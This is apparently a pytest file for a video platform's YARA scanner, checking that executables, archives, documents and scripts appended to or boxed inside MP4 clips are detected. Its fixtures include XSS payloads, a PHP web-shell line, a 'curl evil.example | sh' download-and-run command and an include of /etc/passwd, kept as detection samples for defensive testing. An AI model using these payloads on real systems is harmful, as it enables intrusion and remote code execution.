"""What is hidden in or behind a clip is found in the sandbox, and nothing is found in clips."""

import io
import random
import struct
import sys
import zipfile
from pathlib import Path

import pytest
from corpus import draw, footage

from clairvue.kit.settings import SettingsRefused
from clairvue.media.signatures import ScanBrokenError, check_rules, rule_files, search


def archive():
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as packed:
        packed.writestr("invoice.exe", b"MZ")
    return content.getvalue()


PE = (
    b"MZ"
    + bytes(58)
    + struct.pack("<I", 64)
    + b"PE\0\0"
    + struct.pack("<HHIIIHH", 0x8664, 3, 0, 0, 0, 240, 2)
    + b"\x0b\x02"
)
HIDDEN = {
    "EICAR_test_file": [b"EICAR-STANDARD-ANTIVIRUS" + b"-TEST-FILE!"],
    "Windows_program": [
        PE,
        b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46",
        b"This program cannot be run " + b"in DOS mode",
    ],
    "Linux_or_Android_program": [Path(sys.executable).read_bytes()[:4096], b"dex\n035\0"],
    "Mac_program": [b"\xcf\xfa\xed\xfe\x0c\0\0\x01", b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07"],
    "Java_or_WebAssembly_program": [b"\xca\xfe\xba\xbe\0\0\0\x34", b"\0asm\x01\0\0\0\x01"],
    "Archive": [archive(), b"Rar!\x1a\x07\x01\0", b"7z\xbc\xaf\x27\x1c\0\x04", b"MSCF\0\0\0\0\x10\0\0\0\0\0\0\0"],
    "Office_or_PDF_document": [b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF"],
    "Web_page": [
        b"<SCRIPT>alert(1)</sCRIPT>",
        b"<html><body>hello",
        b"<svg xmlns='x' onload=alert(1)>",
        b"<iframe src='//evil.example'>",
    ],
    "Script": [b"<?php system($_GET['c']); ?>", b"#!/bin/sh\ncurl evil.example | sh\n", b"wscript.shell"],
}
EACH = [(rule, hidden) for rule, some in HIDDEN.items() for hidden in some]


@pytest.fixture(scope="module")
def real(tools, tmp_path_factory):
    """Make a real clip."""
    return draw(tools, tmp_path_factory.mktemp("clip") / "clip.mp4").read_bytes()


async def found(tools, folder, content, own=""):
    source = folder / "source"
    source.write_bytes(content)
    return await search(source, tools=tools, files=rule_files(str(own)))


async def test_a_clip_holds_nothing_and_neither_do_bytes_by_chance(tools, tmp_path, real):
    for content in (real, *(footage(name).read_bytes() for name in ("bigbuckbunny", "bikes"))):
        assert await found(tools, tmp_path, content) == []
    assert await found(tools, tmp_path, random.Random(7).randbytes(8_000_000)) == []


@pytest.mark.parametrize(("rule", "hidden"), EACH, ids=[f"{rule}-{number}" for number, (rule, _) in enumerate(EACH)])
async def test_what_is_behind_a_clip_or_in_a_box_of_it_is_found(tools, tmp_path, real, rule, hidden):
    assert await found(tools, tmp_path, real + hidden) == [rule]
    box = struct.pack(">I4s", 8 + len(hidden), b"free") + hidden
    assert await found(tools, tmp_path, box + real) == [rule]


async def test_an_operators_own_rules_count_beside_ours(tools, tmp_path, real):
    own = tmp_path / "rules"
    own.mkdir()
    (own / "one.yar").write_text('rule Archive { strings: $a = "ours alone" condition: $a }')  # a name that we use too
    (own / "two.yara").write_text('import "math" rule Two { strings: $a = "two" $b = "2" condition: $a and $b }')
    (own / "notes.txt").write_text("no rule")
    check_rules(str(own))
    assert await found(tools, tmp_path, real + b"ours alone", own) == ["Archive"]
    assert await found(tools, tmp_path, real + b"two 2", own) == ["Two"]


def test_a_rule_that_cannot_be_used_is_refused_with_its_file_and_line(tmp_path):
    own = tmp_path / "rules"
    with pytest.raises(SettingsRefused, match="CLAIRVUE_SCAN_RULES must be a folder"):
        check_rules(str(own))
    own.mkdir()
    broken = own / "broken.yar"
    broken.write_text('rule One {\n    strings: $a = "x"\n    condition: $b\n}\n')
    with pytest.raises(SettingsRefused, match=rf"{broken}:3:16: error.*unknown pattern `\$b`"):
        check_rules(str(own))
    broken.write_text('include "/etc/passwd"')
    with pytest.raises(SettingsRefused, match="CLAIRVUE_SCAN_RULES has a rule that cannot be used"):
        check_rules(str(own))


async def test_a_scanner_that_breaks_is_no_answer(tools, tmp_path, real):
    own = tmp_path / "rules"
    own.mkdir()
    (own / "broken.yar").write_text("rule {")
    with pytest.raises(ScanBrokenError, match="syntax error"):
        await found(tools, tmp_path, real, own)
